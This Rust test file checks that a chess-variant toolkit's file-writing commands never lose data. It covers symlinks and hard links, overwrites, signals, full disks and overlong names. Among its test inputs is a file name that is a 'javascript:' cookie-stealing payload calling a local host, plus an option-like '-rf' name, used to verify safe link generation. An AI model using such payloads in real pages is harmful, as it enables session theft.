//! Issue 38: the commands that write files never lose data and never let a name run a script.
//! One test per reproducer of the issue: a file name that would be a `javascript:` link, an
//! output that is an input (the same path, a symbolic link, a hard link), two inputs of one
//! name, outputs over files already there or through links, in-place rewrites through links and
//! of files owned by others or read-only, a run ended by INT, TERM or HUP, a full disk (a small
//! tmpfs, when the test runs as root and may mount one), a write that fails in `check --fix`,
//! and a name too long for a file system. The promises are docs/RELIABILITY.md's "Writing
//! files".
#![cfg(unix)]

use std::ffi::OsStr;
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

mod common;

use common::cescacs;

fn scratch(name: &str) -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("writes").join(name);
    let _ = fs::remove_dir_all(&dir);
    fs::create_dir_all(&dir).expect("scratch folder");
    dir
}

fn err(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// `cescacs ARGS`, the arguments paths or words.
fn run<S: AsRef<OsStr>>(args: &[S]) -> Output {
    cescacs(args).output()
}

/// A game with a name, and `n` of them in one text.
fn game(white: &str) -> String {
    format!("[Variant \"C'escacs\"]\n[White \"{white}\"]\n\n1. E7-E13 :\n*\n")
}

fn games(white: &str, n: usize) -> String {
    (1..=n).map(|i| game(&format!("{white} {i}"))).collect::<Vec<_>>().join("\n")
}

/// The names of the files in `dir`, sorted.
fn names(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// The temporary files of the toolkit anywhere below `dir`.
fn temporary_files(dir: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if entry.file_type().is_ok_and(|t| t.is_dir()) {
            found.extend(temporary_files(&path));
        } else if entry.file_name().to_string_lossy().starts_with(".cescacs-") {
            found.push(path);
        }
    }
    found
}

/// The links of an index page.
fn hrefs(index: &str) -> Vec<String> {
    index.split("href=\"").skip(1).filter_map(|h| h.split('"').next()).map(str::to_string).collect()
}

/// The files of a site besides its pages of games (`html --split`, `html` into a folder).
const SITE_FILES: [&str; 5] = ["index.html", "site.css", "site.js", "standings.html", "tree.html"];

/// The links of an index to its games' pages, one a row.
fn game_links(index: &str) -> Vec<String> {
    index
        .split("<td data-label=\"Game\"")
        .skip(1)
        .filter_map(|row| hrefs(row).into_iter().next())
        .collect()
}

/// The file of the folder `dir` a link of its index names, its percent escapes decoded.
fn linked_file(dir: &Path, href: &str) -> PathBuf {
    let path = href.split('#').next().unwrap();
    let path = path.strip_prefix("./").unwrap_or_else(|| panic!("not relative: {href}"));
    let mut bytes = Vec::new();
    let raw = path.as_bytes();
    let mut i = 0;
    while i < raw.len() {
        if raw[i] == b'%' {
            let hex = std::str::from_utf8(&raw[i + 1..i + 3]).unwrap();
            bytes.push(u8::from_str_radix(hex, 16).unwrap());
            i += 3;
        } else {
            bytes.push(raw[i]);
            i += 1;
        }
    }
    dir.join(String::from_utf8(bytes).unwrap())
}

/// Reproducer 1: a file name becomes no script, and no dead link.
#[test]
fn a_file_name_never_makes_a_link_with_a_scheme_or_a_dead_link() {
    let dir = scratch("names");
    let hostile = [
        // The name, its one `/` written as the others are (a name cannot hold one).
        "javascript:fetch('http:'+String.fromCharCode(47,47)+'127.0.0.1:8765'+String.fromCharCode(47)+'x?'+document.cookie)<!--.ctl-pgn",
        "a#b.ctl-pgn",
        "100%25.ctl-pgn",
        "what?.ctl-pgn",
        "Moià i Martí.ctl-pgn",
        "-rf.ctl-pgn",
    ];
    let inputs = dir.join("in");
    fs::create_dir_all(&inputs).unwrap();
    for (i, name) in hostile.iter().enumerate() {
        fs::write(inputs.join(name), games(&format!("P{i}"), 2)).unwrap();
    }
    let out = dir.join("out");
    let o = run(&[
        OsStr::new("html"),
        "--split".as_ref(),
        "-o".as_ref(),
        out.as_os_str(),
        inputs.as_os_str(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert!(err(&o).contains("12 pages"), "{}", err(&o));
    let index = fs::read_to_string(out.join("index.html")).unwrap();
    let links = game_links(&index);
    assert_eq!(links.len(), 12, "{index}");
    // The site's own links lead to its files too.
    for href in hrefs(&index).iter().filter(|h| !links.contains(h)) {
        let file = out.join(href.trim_start_matches("./"));
        assert!(file.is_file(), "{href}: {} is missing", file.display());
    }
    for href in &links {
        assert!(href.starts_with("./"), "{href}");
        assert!(!href.contains(':') && !href.contains('?') && !href.contains('\''), "{href}");
        assert_eq!(href.matches('#').count(), 1, "{href}");
        let page = linked_file(&out, href);
        assert!(page.is_file(), "{href}: {} is missing", page.display());
    }
    for name in names(&out) {
        assert!(!name.contains(':') && !name.starts_with('-'), "{name}");
    }
}

/// Reproducer 2: a page never replaces its input, nor writes through a link.
#[test]
fn html_never_writes_over_its_input_nor_through_a_link() {
    let dir = scratch("html-input");
    let text = games("A", 2);
    let g = dir.join("g.ctl-pgn");
    fs::write(&g, &text).unwrap();
    let intact = |why: &str| assert_eq!(fs::read_to_string(&g).unwrap(), text, "{why}");
    for force in [false, true] {
        let with = |args: &[&OsStr]| {
            let mut all: Vec<&OsStr> = vec!["html".as_ref()];
            if force {
                all.push("--force".as_ref());
            }
            all.extend(args);
            run(&all)
        };
        // -o the input itself.
        let o = with(&[g.as_os_str(), "-o".as_ref(), g.as_os_str()]);
        assert_eq!(o.status.code(), Some(2), "{}", err(&o));
        assert!(err(&o).contains("(the same file)"), "{}", err(&o));
        intact("-o the input");
        // A symbolic link where the page goes, to the input.
        let page = dir.join("g.html");
        symlink("g.ctl-pgn", &page).unwrap();
        let o = with(&[g.as_os_str()]);
        assert_eq!(o.status.code(), Some(2), "{}", err(&o));
        intact("a link to the input at the page's name");
        fs::remove_file(&page).unwrap();
        // A hard link of the input where the page goes.
        fs::hard_link(&g, &page).unwrap();
        let o = with(&[g.as_os_str()]);
        assert_eq!(o.status.code(), Some(2), "{}", err(&o));
        intact("a hard link of the input at the page's name");
        fs::remove_file(&page).unwrap();
        // An input named like its page: `g.html` holding CTL-PGN.
        fs::write(&page, &text).unwrap();
        let o = with(&[page.as_os_str()]);
        assert_eq!(o.status.code(), Some(2), "{}", err(&o));
        assert_eq!(fs::read_to_string(&page).unwrap(), text);
        fs::remove_file(&page).unwrap();
    }
    // A link among the pages of --split, to a file outside the folder.
    let outside = dir.join("outside.txt");
    fs::write(&outside, "mine").unwrap();
    let out = dir.join("out");
    fs::create_dir_all(&out).unwrap();
    symlink(&outside, out.join("g-0001.html")).unwrap();
    let split = |force: bool| {
        let mut args: Vec<&OsStr> = vec!["html".as_ref(), "--split".as_ref()];
        if force {
            args.push("--force".as_ref());
        }
        args.extend([OsStr::new("-o"), out.as_os_str(), g.as_os_str()]);
        run(&args)
    };
    let o = split(false);
    assert_eq!(o.status.code(), Some(2), "{}", err(&o));
    assert!(err(&o).contains("not overwritten (`--force` replaces it)"), "{}", err(&o));
    assert_eq!(fs::read_to_string(&outside).unwrap(), "mine");
    let _ = fs::remove_file(out.join("index.html"));
    let o = split(true);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert_eq!(fs::read_to_string(&outside).unwrap(), "mine", "the link is replaced, not followed");
    assert!(!fs::symlink_metadata(out.join("g-0001.html")).unwrap().file_type().is_symlink());
    assert!(fs::read_to_string(out.join("g-0001.html")).unwrap().starts_with("<!DOCTYPE html>"));
    intact("after --split");
}

/// Reproducer 3: N games make N pages, whatever names their inputs share.
#[test]
fn inputs_of_one_name_get_a_page_for_each_game() {
    let dir = scratch("html-names");
    for sub in ["a", "b"] {
        fs::create_dir_all(dir.join(sub)).unwrap();
    }
    fs::write(dir.join("a/x.ctl-pgn"), games("Anna", 2)).unwrap();
    fs::write(dir.join("b/x.ctl-pgn"), games("Berta", 3)).unwrap();
    fs::write(dir.join("stdin.ctl-pgn"), games("Carles", 1)).unwrap();
    let check_index = |out: &Path, pages: usize, who: &[&str]| {
        let index = fs::read_to_string(out.join("index.html")).unwrap();
        let links = game_links(&index);
        assert_eq!(links.len(), pages, "{index}");
        let mut files: Vec<PathBuf> = links.iter().map(|h| linked_file(out, h)).collect();
        files.sort();
        files.dedup();
        assert_eq!(files.len(), pages, "each row links to its own page: {links:?}");
        assert_eq!(names(out).len(), pages + SITE_FILES.len(), "{:?}", names(out));
        for (file, href) in links.iter().map(|h| (linked_file(out, h), h)) {
            let page = fs::read_to_string(&file).unwrap();
            assert!(who.iter().any(|w| page.contains(w)), "{href}");
        }
    };
    let out = dir.join("files");
    let o = run(&[
        OsStr::new("html"),
        "--split".as_ref(),
        "-o".as_ref(),
        out.as_os_str(),
        dir.join("a/x.ctl-pgn").as_os_str(),
        dir.join("b/x.ctl-pgn").as_os_str(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert!(err(&o).contains("5 pages"), "{}", err(&o));
    check_index(&out, 5, &["Anna", "Berta"]);
    // A folder holding both.
    let out = dir.join("folder");
    let o = run(&[
        OsStr::new("html"),
        "--split".as_ref(),
        "-o".as_ref(),
        out.as_os_str(),
        dir.join("a").as_os_str(),
        dir.join("b").as_os_str(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    check_index(&out, 5, &["Anna", "Berta"]);
    // Standard input and a file named after it.
    let out = dir.join("stdin");
    let o = cescacs(&[
        OsStr::new("html"),
        "--split".as_ref(),
        "-o".as_ref(),
        out.as_os_str(),
        "-".as_ref(),
        dir.join("stdin.ctl-pgn").as_os_str(),
    ])
    .stdin(games("Dolors", 2))
    .output();
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert!(err(&o).contains("3 pages"), "{}", err(&o));
    check_index(&out, 3, &["Carles", "Dolors"]);
    // Without --split, into a folder: a page each.
    let out = dir.join("pages");
    let o = run(&[
        OsStr::new("html"),
        "-o".as_ref(),
        out.as_os_str(),
        dir.join("a/x.ctl-pgn").as_os_str(),
        dir.join("b/x.ctl-pgn").as_os_str(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    let mut expected = SITE_FILES.to_vec();
    expected.extend(["x-2.html", "x.html"]);
    expected.sort();
    assert_eq!(names(&out), expected);
    assert!(fs::read_to_string(out.join("x-2.html")).unwrap().contains("Berta"));
}

/// Reproducer 4: `filter -o` and `convert -o` keep every input's games, never write over a
/// file already there, through a link, or over an input.
#[test]
fn filter_and_convert_outputs_are_new_files_of_their_own() {
    let dir = scratch("filter-outputs");
    for sub in ["d1", "d2"] {
        fs::create_dir_all(dir.join(sub)).unwrap();
    }
    let (d1, d2) = (dir.join("d1/x.ctl-pgn"), dir.join("d2/x.ctl-pgn"));
    fs::write(&d1, games("Anna", 1)).unwrap();
    fs::write(&d2, games("Berta", 1)).unwrap();
    for command in [&["filter", "--whole"][..], &["convert", "--letters", "fan"]] {
        let out = dir.join(format!("out-{}", command[0]));
        let o = |force: bool, extra: &[&Path]| {
            let mut args: Vec<&OsStr> = command.iter().map(OsStr::new).collect();
            if force {
                args.push("--force".as_ref());
            }
            args.extend(["-o".as_ref(), out.as_os_str(), d1.as_os_str(), d2.as_os_str()]);
            args.extend(extra.iter().map(|p| p.as_os_str()));
            run(&args)
        };
        let first = o(false, &[]);
        assert_eq!(first.status.code(), Some(0), "{command:?}: {}", err(&first));
        assert_eq!(names(&out), ["x-2.ctl-pgn", "x.ctl-pgn"], "{command:?}");
        assert!(fs::read_to_string(out.join("x.ctl-pgn")).unwrap().contains("Anna"));
        assert!(fs::read_to_string(out.join("x-2.ctl-pgn")).unwrap().contains("Berta"));
        // Files already there: kept, unless --force.
        fs::write(out.join("x.ctl-pgn"), "mine").unwrap();
        let again = o(false, &[]);
        assert_eq!(again.status.code(), Some(2), "{command:?}");
        assert_eq!(err(&again).matches("not overwritten (`--force` replaces it)").count(), 2);
        assert_eq!(fs::read_to_string(out.join("x.ctl-pgn")).unwrap(), "mine");
        // A dangling link there: never followed, replaced with --force.
        let outside = dir.join(format!("outside-{}", command[0]));
        fs::remove_file(out.join("x.ctl-pgn")).unwrap();
        symlink(&outside, out.join("x.ctl-pgn")).unwrap();
        let o2 = o(false, &[]);
        assert_eq!(o2.status.code(), Some(2), "{command:?}");
        assert!(!outside.exists(), "{command:?}: written through a dangling link");
        let forced = o(true, &[]);
        assert_eq!(forced.status.code(), Some(0), "{command:?}: {}", err(&forced));
        assert!(!outside.exists(), "{command:?}: written through a dangling link");
        assert!(fs::read_to_string(out.join("x.ctl-pgn")).unwrap().contains("Anna"));
        // A hard link of an input there: never written, even with --force.
        fs::remove_file(out.join("x-2.ctl-pgn")).unwrap();
        fs::hard_link(&d2, out.join("x-2.ctl-pgn")).unwrap();
        let before = fs::read(&d2).unwrap();
        let linked = o(true, &[]);
        assert_eq!(linked.status.code(), Some(2), "{command:?}");
        assert!(err(&linked).contains("(the same file)"), "{}", err(&linked));
        assert_eq!(fs::read(&d2).unwrap(), before, "{command:?}: the input is intact");
        // A folder below the output that is a link: not followed.
        let away = dir.join(format!("away-{}", command[0]));
        fs::create_dir_all(&away).unwrap();
        let root = dir.join("tree");
        fs::create_dir_all(root.join("sub")).unwrap();
        fs::write(root.join("sub/y.ctl-pgn"), games("Carme", 1)).unwrap();
        let _ = fs::remove_dir_all(out.join("sub"));
        symlink(&away, out.join("sub")).unwrap();
        let mut args: Vec<&OsStr> = command.iter().map(OsStr::new).collect();
        args.extend(["-o".as_ref(), out.as_os_str(), root.as_os_str()]);
        let o3 = run(&args);
        assert_eq!(o3.status.code(), Some(2), "{command:?}");
        assert!(err(&o3).contains("is a symbolic link: not followed"), "{}", err(&o3));
        assert!(names(&away).is_empty());
        assert!(temporary_files(&dir).is_empty());
    }
    // --split: two inputs of one name, games of the same players, every game kept.
    let (d1, d2) = (dir.join("d1/y.ctl-pgn"), dir.join("d2/y.ctl-pgn"));
    fs::write(&d1, game("Anna").replace("\n\n", "\n[Event \"first\"]\n\n")).unwrap();
    fs::write(&d2, game("Anna").replace("\n\n", "\n[Event \"second\"]\n\n")).unwrap();
    let split = dir.join("split");
    let o = run(&[
        OsStr::new("filter"),
        "--whole".as_ref(),
        "--split".as_ref(),
        "-o".as_ref(),
        split.as_os_str(),
        d1.as_os_str(),
        d2.as_os_str(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert_eq!(names(&split), ["y-0001-Anna-2.ctl-pgn", "y-0001-Anna.ctl-pgn"]);
    assert!(fs::read_to_string(split.join("y-0001-Anna-2.ctl-pgn")).unwrap().contains("second"));
}

/// Reproducer 5: `fmt` and `check --fix` rewrite a link's target, keep hard links, owner,
/// group and mode, and refuse a read-only file.
#[test]
fn in_place_rewrites_keep_the_file_as_it_was_but_its_text() {
    let dir = scratch("in-place");
    let messy = "[Variant \"C'escacs\"]\n\n1. E7-E13 :  *\n";
    let fixable = "[Variant \"C'escacs\"]\n[PDTL \"/14:3k3/12:3N3/8:3r3/4:2R2/1:1K/ w -- - 0 1\"]\n1. RF4xRF8\n";
    let root = rustix_is_root();
    for (command, text) in [(&["fmt"][..], messy), (&["check", "--fix"], fixable)] {
        let real = dir.join(format!("{}.ctl-pgn", command[0]));
        let link = dir.join(format!("{}-link.ctl-pgn", command[0]));
        let hard = dir.join(format!("{}-hard.ctl-pgn", command[0]));
        fs::write(&real, text).unwrap();
        fs::set_permissions(&real, fs::Permissions::from_mode(0o640)).unwrap();
        if root {
            std::os::unix::fs::chown(&real, Some(1234), Some(5678)).unwrap();
        }
        symlink(real.file_name().unwrap(), &link).unwrap();
        fs::hard_link(&real, &hard).unwrap();
        let inode = fs::metadata(&real).unwrap().ino();
        let mut args: Vec<&OsStr> = command.iter().map(OsStr::new).collect();
        args.push(link.as_os_str());
        let o = run(&args);
        assert!(o.status.code().is_some_and(|c| c < 2), "{command:?}: {}", err(&o));
        let fixed = fs::read_to_string(&real).unwrap();
        assert_ne!(fixed, text, "{command:?}: the link's target is rewritten");
        assert!(fs::symlink_metadata(&link).unwrap().file_type().is_symlink(), "{command:?}");
        assert_eq!(fs::read_to_string(&hard).unwrap(), fixed, "{command:?}: the hard link too");
        let meta = fs::metadata(&real).unwrap();
        assert_eq!((meta.ino(), meta.nlink()), (inode, 2), "{command:?}");
        assert_eq!(meta.mode() & 0o7777, 0o640, "{command:?}");
        if root {
            assert_eq!((meta.uid(), meta.gid()), (1234, 5678), "{command:?}");
        }
        // One link, another owner: renamed, owner, group and mode kept.
        fs::remove_file(&hard).unwrap();
        fs::write(&real, text).unwrap();
        let o = run(&args);
        assert!(o.status.code().is_some_and(|c| c < 2), "{command:?}: {}", err(&o));
        let meta = fs::metadata(&real).unwrap();
        assert_eq!(meta.mode() & 0o7777, 0o640, "{command:?}");
        if root {
            assert_eq!((meta.uid(), meta.gid()), (1234, 5678), "{command:?}");
        }
        // Read-only: refused, even as root, and said so.
        fs::write(&real, text).unwrap();
        fs::set_permissions(&real, fs::Permissions::from_mode(0o444)).unwrap();
        let o = run(&args);
        assert_eq!(o.status.code(), Some(2), "{command:?}: {}", err(&o));
        assert!(err(&o).contains("read-only (mode 0444): not rewritten"), "{}", err(&o));
        assert_eq!(fs::read_to_string(&real).unwrap(), text, "{command:?}");
        if command[0] == "check" {
            // Reproducer 9: nothing counted as fixed.
            assert!(err(&o).contains("fixed 0 problems in 0 files"), "{}", err(&o));
        }
        assert!(temporary_files(&dir).is_empty());
    }
}

/// Whether the tests run as root (who may chown and mount).
fn rustix_is_root() -> bool {
    rustix::process::geteuid().is_root()
}

/// Starts `cescacs ARGS` and sends it `signal` once `ready` holds (polled), then waits for it.
fn interrupt(
    args: &[&OsStr],
    signal: rustix::process::Signal,
    ready: impl Fn() -> bool,
) -> (Option<i32>, bool) {
    let mut child: Child = Command::new(env!("CARGO_BIN_EXE_cescacs"))
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("runs");
    let started = Instant::now();
    let mut sent = false;
    while started.elapsed() < Duration::from_secs(120) {
        if child.try_wait().expect("waits").is_some() {
            break;
        }
        if ready() {
            let _ = rustix::process::kill_process(rustix::process::Pid::from_child(&child), signal);
            sent = true;
            break;
        }
    }
    let status = child.wait().expect("ends");
    (status.code(), sent)
}

/// A White Rook on F4 facing a Black Rook on F8 (as `tests/fix.rs`).
const V: &str = "[PDTL \"/14:3k3/12:3N3/8:3r3/4:2R2/1:1K/ w -- - 0 1\"]\n";

/// Reproducer 8: INT, TERM and HUP end a run with no temporary file left, status 128 + the
/// signal, and the files it was writing as they were (or whole).
#[test]
fn a_run_ended_by_a_signal_leaves_no_temporary_file() {
    use rustix::process::Signal;
    let dir = scratch("signals");
    // Games with long comments: quick to read, long to write.
    let comment = "word ".repeat(180_000);
    let long = |movetext: &str| {
        (0..6)
            .map(|i| format!("[Variant \"C'escacs\"]\n[White \"W{i}\"]\n{V}\n1. {movetext} {{{comment}}}\n*\n"))
            .collect::<Vec<_>>()
            .join("\n")
    };
    // `fmt`: not canonical (two spaces); `check --fix`: two fixes a game (`x`, the final `:`).
    let rewrites = [("fmt", "--stdout", long("RF4×RF8 : ")), ("check", "--fix", long("RF4xRF8"))]
        .map(|(command, to_stdout, text)| {
            let whole = common::run(&[command, to_stdout, "-"], &text).stdout;
            assert_ne!(whole, text.as_bytes(), "{command} changes the text");
            (command, text, whole)
        });
    let many: String =
        (0..400).map(|i| cescacs_gen::generate_game(38, i, 30).text).collect::<Vec<_>>().join("\n");
    for signal in [Signal::INT, Signal::TERM, Signal::HUP] {
        let code = 128 + signal.as_raw();
        // `html --split`: the index is written all along, the pages one by one.
        let input = dir.join("many.ctl-pgn");
        fs::write(&input, &many).unwrap();
        let out = dir.join(format!("pages-{code}"));
        let (status, sent) = interrupt(
            &[
                "html".as_ref(),
                "--split".as_ref(),
                "-o".as_ref(),
                out.as_os_str(),
                input.as_os_str(),
            ],
            signal,
            || out.join("many-0001.html").exists(),
        );
        assert!(sent, "the run ended before a page was written");
        assert_eq!(status, Some(code), "{signal:?}");
        assert!(temporary_files(&dir).is_empty(), "{signal:?}: {:?}", temporary_files(&dir));
        assert!(!out.join("index.html").exists(), "no index of a run cut short");
        for name in names(&out).iter().filter(|n| n.ends_with(".html")) {
            let page = fs::read_to_string(out.join(name)).unwrap();
            assert!(page.ends_with("</html>\n"), "{name} is whole");
        }
        // `fmt` and `check --fix`: the rewrite of one big file.
        for (command, text, whole) in &rewrites {
            let file = dir.join("long.ctl-pgn");
            let mut args: Vec<&OsStr> = vec![command.as_ref()];
            if *command == "check" {
                args.push("--fix".as_ref());
            }
            args.push(file.as_os_str());
            // The temporary file lives only while the text is written: on a busy machine
            // this loop may not run in that window, so a run that ends unseen is tried again.
            let (mut status, mut sent) = (None, false);
            for _ in 0..10 {
                fs::write(&file, text).unwrap();
                (status, sent) = interrupt(&args, signal, || !temporary_files(&dir).is_empty());
                if sent {
                    break;
                }
            }
            assert!(sent, "{command}: no temporary file was seen in ten runs");
            assert_eq!(status, Some(code), "{command} {signal:?}");
            assert!(temporary_files(&dir).is_empty(), "{command} {signal:?}");
            let now = fs::read(&file).unwrap();
            assert!(
                now == text.as_bytes() || now == *whole,
                "{command}: the file as it was, or whole"
            );
        }
    }
}

/// A small file system of its own (tmpfs), to fill: only for root, where mounting works.
struct Tmpfs(PathBuf);

impl Tmpfs {
    fn mount(dir: &Path, size: &str) -> Option<Tmpfs> {
        fs::create_dir_all(dir).ok()?;
        let mounted = rustix_is_root()
            && Command::new("mount")
                .args(["-t", "tmpfs", "-o", &format!("size={size}"), "tmpfs"])
                .arg(dir)
                .stderr(Stdio::null())
                .status()
                .is_ok_and(|s| s.success());
        if !mounted {
            eprintln!("skipped: a tmpfs cannot be mounted here (root and `mount` needed)");
            return None;
        }
        Some(Tmpfs(dir.to_path_buf()))
    }

    /// Fills it up but for `room` bytes.
    fn fill(&self, room: usize) {
        use std::io::Write;
        let mut filler = fs::File::create(self.0.join("filler")).unwrap();
        let chunk = vec![b'x'; 4096];
        while filler.write_all(&chunk).is_ok() {}
        let len = filler.metadata().unwrap().len();
        filler.set_len(len.saturating_sub(room as u64)).unwrap();
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.0).status();
    }
}

/// Reproducers 8 and 9: a full disk leaves no truncated or empty file, never a truncated file
/// over an earlier good one, stops a run of many files, and is a failure (status 2) that
/// `check --fix` does not count as fixed.
#[test]
fn a_full_disk_never_leaves_a_truncated_or_empty_file() {
    let dir = scratch("full");
    let Some(disk) = Tmpfs::mount(&dir.join("disk"), "2m") else { return };
    let many = dir.join("many.ctl-pgn");
    let text: String = (0..3000)
        .map(|i| cescacs_gen::generate_game(38, i, 20).text)
        .collect::<Vec<_>>()
        .join("\n");
    fs::write(&many, &text).unwrap();
    // html --split: whole pages, then a stop.
    let pages = disk.0.join("pages");
    let o = run(&[
        OsStr::new("html"),
        "--split".as_ref(),
        "-o".as_ref(),
        pages.as_os_str(),
        many.as_os_str(),
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", err(&o));
    assert!(err(&o).contains("the disk is full: no more pages written"), "{}", err(&o));
    assert!(err(&o).lines().count() < 10, "one failure, not one a page: {}", err(&o));
    let written = names(&pages);
    let games: Vec<&String> =
        written.iter().filter(|n| !SITE_FILES.contains(&n.as_str())).collect();
    assert!(!games.is_empty(), "{written:?}");
    assert!(err(&o).contains(&format!("{} pages and", games.len())), "{}", err(&o));
    // The index (there was room for it once the page that did not fit was gone) links the
    // pages written, each whole.
    let index =
        fs::read_to_string(pages.join("index.html")).unwrap_or_else(|_| panic!("{}", err(&o)));
    assert_eq!(game_links(&index).len(), games.len());
    assert!(game_links(&index).iter().all(|h| linked_file(&pages, h).is_file()));
    for name in written.iter().filter(|n| n.ends_with(".html")) {
        let page = fs::read_to_string(pages.join(name)).unwrap();
        assert!(page.ends_with("</html>\n"), "{name}: {} bytes", page.len());
    }
    assert!(temporary_files(&disk.0).is_empty());
    fs::remove_dir_all(&pages).unwrap();
    // filter --split: whole files, no empty one.
    let split = disk.0.join("split");
    let o = run(&[
        OsStr::new("filter"),
        "--whole".as_ref(),
        "--split".as_ref(),
        "-o".as_ref(),
        split.as_os_str(),
        many.as_os_str(),
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", err(&o));
    assert!(err(&o).contains("the disk is full: no more files written"), "{}", err(&o));
    let written = names(&split);
    assert!(!written.is_empty() && written.len() < 3000, "{}", written.len());
    for name in &written {
        let game = fs::read_to_string(split.join(name)).unwrap();
        assert!(game.starts_with("[Variant ") && game.ends_with("\n"), "{name}: {game:?}");
        let again = common::run(&["fmt", "--check", "-"], &game);
        assert_eq!(again.status.code(), Some(0), "{name} is a whole canonical game");
    }
    assert!(temporary_files(&disk.0).is_empty());
    fs::remove_dir_all(&split).unwrap();
    // filter -o --force: an earlier good output stays whole.
    let out = disk.0.join("out");
    fs::create_dir_all(&out).unwrap();
    let small = dir.join("many-small");
    fs::create_dir_all(&small).unwrap();
    fs::write(small.join("many.ctl-pgn"), game("Anna")).unwrap();
    let o = run(&[
        OsStr::new("filter"),
        "-o".as_ref(),
        out.as_os_str(),
        small.join("many.ctl-pgn").as_os_str(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    let good = fs::read(out.join("many.ctl-pgn")).unwrap();
    disk.fill(16 << 10);
    let o = run(&[
        OsStr::new("filter"),
        "--force".as_ref(),
        "-o".as_ref(),
        out.as_os_str(),
        many.as_os_str(),
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", err(&o));
    assert_eq!(fs::read(out.join("many.ctl-pgn")).unwrap(), good, "the earlier output is whole");
    assert!(temporary_files(&disk.0).is_empty());
    // fmt and check --fix of a file on the full disk: left as it was, status 2, not counted.
    let file = disk.0.join("fix.ctl-pgn");
    fs::remove_file(disk.0.join("filler")).unwrap();
    let fixable =
        format!("[Variant \"C'escacs\"]\n{V}\n1. RF4xRF8 {{{}}}\n*\n", "word ".repeat(20_000));
    fs::write(&file, &fixable).unwrap();
    disk.fill(16 << 10);
    let o = run(&[OsStr::new("check"), "--fix".as_ref(), file.as_os_str()]);
    assert_eq!(o.status.code(), Some(2), "{}", err(&o));
    assert!(err(&o).contains("fixed 0 problems in 0 files"), "{}", err(&o));
    assert_eq!(fs::read_to_string(&file).unwrap(), fixable);
    fs::remove_file(&file).unwrap();
    fs::remove_file(disk.0.join("filler")).unwrap();
    let messy = fixable.replace("RF4xRF8", "RF4×RF8  :");
    fs::write(&file, &messy).unwrap();
    disk.fill(16 << 10);
    let o = run(&[OsStr::new("fmt"), file.as_os_str()]);
    assert_eq!(o.status.code(), Some(2), "{}", err(&o));
    assert!(err(&o).contains("No space left"), "{}", err(&o));
    assert_eq!(fs::read_to_string(&file).unwrap(), messy);
    assert!(temporary_files(&disk.0).is_empty());
}

/// Reproducer 10: a long input name makes names that fit (as `filter --split` made them).
#[test]
fn a_long_input_name_is_shortened_to_fit() {
    let dir = scratch("long-name");
    let name = format!("{}.ctl-pgn", "é".repeat(119));
    assert!(name.len() > 240 && name.len() <= 255);
    let file = dir.join(&name);
    fs::write(&file, games("Anna", 2)).unwrap();
    let pages = dir.join("pages");
    let o = run(&[
        OsStr::new("html"),
        "--split".as_ref(),
        "-o".as_ref(),
        pages.as_os_str(),
        file.as_os_str(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert_eq!(names(&pages).len(), 2 + SITE_FILES.len(), "two pages and the site's files");
    let page = format!("{}-0001.html", "é".repeat(40));
    assert!(pages.join(&page).is_file(), "{:?}", names(&pages));
    let o = run(&[
        OsStr::new("html"),
        "-o".as_ref(),
        format!("{}/", dir.join("one").display()).as_ref(),
        file.as_os_str(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    let o = run(&[
        OsStr::new("filter"),
        "--split".as_ref(),
        "-o".as_ref(),
        dir.join("split").as_os_str(),
        file.as_os_str(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert_eq!(names(&dir.join("split")).len(), 2);
}

/// The one home of writing files: no file of the CLI's sources outside `src/write/` creates,
/// opens for writing, renames or chmods a file (spools of unnamed temporary files aside), so no
/// command can bypass the promises above.
#[test]
fn every_file_is_written_by_the_write_module() {
    fn sources(dir: &Path, found: &mut Vec<PathBuf>) {
        for entry in fs::read_dir(dir).unwrap().flatten() {
            let path = entry.path();
            if path.is_dir() {
                if !path.ends_with("write") {
                    sources(&path, found);
                }
            } else if path.extension().is_some_and(|e| e == "rs") {
                found.push(path);
            }
        }
    }
    let mut files = Vec::new();
    sources(&Path::new(env!("CARGO_MANIFEST_DIR")).join("src"), &mut files);
    assert!(files.len() > 20, "{files:?}");
    for file in files {
        let text = fs::read_to_string(&file).unwrap();
        for call in [
            "File::create",
            "fs::write(",
            "OpenOptions",
            "create_new",
            ".persist(",
            "fs::rename",
            "set_permissions",
        ] {
            assert!(!text.contains(call), "{}: `{call}` outside src/write/", file.display());
        }
    }
}
